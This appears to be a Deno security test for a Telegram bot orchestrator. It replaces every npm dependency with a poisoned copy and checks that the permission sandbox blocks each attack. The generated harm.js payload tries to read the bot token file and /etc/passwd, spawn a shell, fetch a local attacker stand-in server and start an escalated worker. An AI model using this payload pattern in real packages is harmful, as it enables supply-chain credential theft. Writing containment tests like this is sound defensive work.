@@ -1,0 +1,229 @@
+/**
+ * A dependency with a line of somebody else's in it: each library that the program loads is replaced
+ * by a copy that also tries to do harm, in whichever part of the program loads it. It gets nowhere.
+ */
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { fileURLToPath, pathToFileURL } from "node:url";
+import { z } from "zod";
+import manifest from "../../deno.json" with { type: "json" };
+import { startBotApiServer } from "../../src/demo/bot_api/server.ts";
+import { denoFolder } from "../support/deno_folder.ts";
+import { temporaryFolder } from "../support/temporary_folder.ts";
+import { writeProgram } from "../support/write_program.ts";
+
+const TOKEN = "7000000001:AAbbCCddEEffGGhhIIjjKKllMMnnOOppQQr";
+const ROOT = new URL("../../", import.meta.url);
+const DEADLINE_MS = 60_000;
+
+const report = z.object({
+  name: z.string(),
+  part: z.string(),
+  outcomes: z.record(z.string(), z.string()),
+  sawToken: z.boolean(),
+});
+type Report = z.infer<typeof report>;
+
+Deno.test("a poisoned copy of each dependency does no harm, in no part of the program", async () => {
+  await using folder = await temporaryFolder();
+  await using telegram = await startedBotApi();
+  let caught = 0;
+  await using stranger = Deno.serve(
+    { port: 0, hostname: "127.0.0.1", onListen: () => {} },
+    () => (caught++, new Response("thanks")),
+  );
+  const home = folder.path;
+  const state = join(home, ".codex-orchestrator");
+  await Deno.mkdir(state);
+  await Deno.writeTextFile(join(state, ".env"), `TELEGRAM_BOT_TOKEN=${TOKEN}\n`);
+  await writeProgram(
+    join(home, "codex"),
+    `#!/bin/sh\necho x >"${home}/harm-codex"\nexec sleep 1\n`,
+  );
+  await Deno.writeTextFile(join(state, "conf.toml"), confOf(telegram.url, home));
+  const names = await poison(home, `http://127.0.0.1:${stranger.addr.port}`);
+  const reports = await reportsOf(home, names);
+  for (const name of names) assert.ok(reports.some((each) => each.name === name), `${name} ran`);
+  const parts = new Set(reports.map(({ part }) => part));
+  assert.deepEqual([...parts].sort(), ["application", "command"]);
+  for (const { name, part, outcomes, sawToken } of reports) {
+    for (const [what, outcome] of Object.entries(outcomes)) {
+      assert.match(outcome, /^NotCapable|^TypeError: Requires/, `${name} in ${part}: ${what}`);
+    }
+    // What reads conf.toml and understands the command line is not even told the token.
+    if (part === "command") assert.equal(sawToken, false, name);
+  }
+  assert.equal(caught, 0);
+  const left = (await Array.fromAsync(Deno.readDir(home))).map((entry) => entry.name);
+  assert.deepEqual(left.filter((name) => name.startsWith("harm")), []);
+});
+
+async function startedBotApi(): Promise<AsyncDisposable & { readonly url: string }> {
+  const server = await startBotApiServer({ token: TOKEN });
+  return { url: server.url, [Symbol.asyncDispose]: () => server.close() };
+}
+
+function confOf(api: string, home: string): string {
+  return `[telegram]
+allowed_users = [1]
+api_root = "${api}"
+[codex]
+backend = "echo"
+command = "${home}/codex"
+agent_working_directory = "${home}"
+`;
+}
+
+/** Writes the copies and an import map that leads to them. @returns the packages */
+async function poison(home: string, stranger: string): Promise<readonly string[]> {
+  const place = join(home, "poison");
+  await Deno.mkdir(place);
+  const imports: Record<string, string> = {};
+  const known = Object.entries(manifest.imports);
+  const packages = new Set<string>();
+  for (const specifier of await specifiersIn(ROOT)) {
+    const [name, real] = known.find(([key]) =>
+      specifier === key || specifier.startsWith(`${key}/`)
+    ) ??
+      [];
+    if (name === undefined || real === undefined || specifier.endsWith("/types")) continue;
+    const file = join(place, `${specifier.replaceAll("/", "_")}.js`);
+    const original = `${real}${specifier.slice(name.length)}`;
+    await Deno.writeTextFile(
+      file,
+      `export * from "${original}";\nimport { harm } from "./harm.js";\nharm(${
+        JSON.stringify(name)
+      });\n`,
+    );
+    imports[specifier] = pathToFileURL(file).href;
+    packages.add(name);
+  }
+  const harm = harmOf(home, stranger, Object.values(imports));
+  await Deno.writeTextFile(join(place, "harm.js"), harm);
+  // The versions that are installed.
+  await Deno.copyFile(new URL("deno.lock", ROOT), join(place, "deno.lock"));
+  const config = {
+    ...manifest,
+    lock: { path: "deno.lock", frozen: false },
+    imports: { ...manifest.imports, ...imports },
+  };
+  await Deno.writeTextFile(join(place, "deno.json"), JSON.stringify(config));
+  return [...packages];
+}
+
+/** What the program imports from npm when it runs. */
+async function specifiersIn(root: URL): Promise<ReadonlySet<string>> {
+  const { stdout } = await new Deno.Command(Deno.execPath(), {
+    args: ["info", "--json", "src/supervisor/application_worker.ts"],
+    cwd: fileURLToPath(root),
+  }).output();
+  const { modules } = JSON.parse(new TextDecoder().decode(stdout));
+  const found = new Set<string>(["@optique/core/facade", "@optique/core/message", "smol-toml"]);
+  for (const { dependencies = [] } of modules) {
+    for (const { specifier, code } of dependencies) {
+      if (code !== undefined && !/^(?:\.|node:|file:)/.test(specifier)) found.add(specifier);
+    }
+  }
+  return found;
+}
+
+/**
+ * The added line: tries all of it at once, when it is loaded, and listens to what its part is told. It
+ * loads the copies that the application would load later, too.
+ */
+function harmOf(home: string, stranger: string, copies: readonly string[]): string {
+  const paths = {
+    env: `${home}/.codex-orchestrator/.env`,
+    conf: `${home}/.codex-orchestrator/conf.toml`,
+    harm: `${home}/harm`,
+    codex: `${home}/codex`,
+  };
+  return `
+const paths = ${JSON.stringify(paths)};
+const tries = {
+  "read .env": () => Deno.readTextFile(paths.env),
+  "read conf.toml": () => Deno.readTextFile(paths.conf),
+  "write conf.toml": () => Deno.writeTextFile(paths.conf, "", { append: true }),
+  "write outside": () => Deno.writeTextFile(paths.harm, "x"),
+  "read passwords": () => Deno.readTextFile("/etc/passwd"),
+  "start a shell": () => new Deno.Command("/bin/sh", { args: ["-c", "echo x >" + paths.harm] }).output(),
+  "start Codex": () => new Deno.Command(paths.codex).output(),
+  "call home": () => fetch(${JSON.stringify(stranger)}),
+  "read the token's variable": () => Deno.env.get("TELEGRAM_BOT_TOKEN"),
+  "start a worker that may": () => new Worker("data:application/javascript,", { type: "module", deno: { permissions: { run: true } } }),
+};
+if (self.name !== "command") {
+  setTimeout(() => {
+${copies.map((copy) => `    void import(${JSON.stringify(copy)}).catch(() => {});`).join("\n")}
+  });
+}
+let sawToken = false;
+if (typeof self.addEventListener === "function") {
+  self.addEventListener("message", ({ data }) => {
+    const seen = JSON.stringify(data, (_key, value) => value instanceof Map ? [...value] : value) ?? "";
+    if (seen.includes(${JSON.stringify(TOKEN)})) sawToken = true;
+  });
+}
+export async function harm(name) {
+  const outcomes = {};
+  for (const [what, attempt] of Object.entries(tries)) {
+    try { await attempt(); outcomes[what] = "done"; } catch (error) { outcomes[what] = error.name + ": " + error.message; }
+  }
+  // The configuration is read by then, where this part reads it.
+  setTimeout(() => tell(name, outcomes), self.name === "command" ? 0 : 300);
+}
+function tell(name, outcomes) {
+  const line = "POISON " + JSON.stringify({ name, part: self.name === "command" ? "command" : "application", outcomes, sawToken }) + "\\n";
+  Deno.stdout.writeSync(new TextEncoder().encode(line));
+}
+`;
+}
+
+/** Starts the program, and stops it once every package has told. */
+async function reportsOf(home: string, names: readonly string[]): Promise<readonly Report[]> {
+  const [, , ...flags] = manifest.tasks.start.command.split(" ").slice(0, -1);
+  const config = join(home, "poison", "deno.json");
+  const child = new Deno.Command(Deno.execPath(), {
+    args: [
+      "run",
+      "--config",
+      config,
+      "--cached-only",
+      ...flags,
+      fileURLToPath(new URL("main.ts", ROOT)),
+    ],
+    cwd: home,
+    clearEnv: true,
+    env: { HOME: home, PATH: "/usr/bin:/bin", DENO_DIR: denoFolder() },
+    stdin: "null",
+    stdout: "piped",
+    stderr: "piped",
+  }).spawn();
+  const deadline = setTimeout(() => child.kill("SIGKILL"), DEADLINE_MS);
+  const reports: Report[] = [];
+  let text = "";
+  for await (const part of child.stdout.pipeThrough(new TextDecoderStream())) {
+    text += part;
+    const lines = text.split("\n");
+    text = lines.pop() ?? "";
+    for (const line of lines.filter((each) => each.startsWith("POISON "))) {
+      reports.push(report.parse(JSON.parse(line.slice("POISON ".length))));
+    }
+    const inApplication = new Set(
+      reports.filter(({ part }) => part === "application").map(({ name }) => name),
+    );
+    if (
+      names.every((name) =>
+        inApplication.has(name) || name === "@optique/core" || name === "smol-toml"
+      )
+    ) {
+      child.kill("SIGTERM");
+      break;
+    }
+  }
+  clearTimeout(deadline);
+  const errors = await new Response(child.stderr).text();
+  const { code } = await child.status;
+  assert.equal(code, 0, `${errors}\n${JSON.stringify(reports)}`);
+  return reports;
+}
